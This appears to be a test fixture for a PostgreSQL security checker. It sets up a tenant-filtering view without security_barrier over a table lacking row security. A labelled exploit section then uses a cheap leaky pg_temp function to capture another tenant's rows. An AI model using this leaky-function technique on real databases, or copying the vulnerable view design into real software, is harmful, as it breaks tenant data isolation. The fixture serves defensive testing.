-- title: a view filters by tenant over a table without row security, without a barrier
-- kind: hole
-- expect: C03
-- also: C04
-- object: portal.my_message
-- logins: portal_app
-- proof: role=portal_app
create role portal_owner nologin;
create role portal_app login;
create schema store authorization portal_owner;
create schema portal authorization portal_owner;
grant usage on schema portal to portal_app;
set role portal_owner;
create table store.message (
  tenant_id int not null,
  id uuid not null default gen_random_uuid(),
  body text not null,
  primary key (tenant_id, id)
);
create view portal.my_message as
  select tenant_id, id, body from store.message
  where tenant_id = (select nullif(current_setting('portal.tenant', true), '')::int);
grant select on portal.my_message to portal_app;
reset role;

-- @data
insert into store.message (tenant_id, body) values (2, 'secret of two');
-- @exploit
set local enable_indexscan = off; set local enable_bitmapscan = off;
select set_config('portal.tenant', '1', true);
create temp table heard (body text);
create function pg_temp.hear(text) returns boolean language plpgsql cost 0.000001 as $$ begin insert into pg_temp.heard values ($1); return true; end $$;
select count(*) from portal.my_message where pg_temp.hear(body);
select 1 from heard where body = 'secret of two';
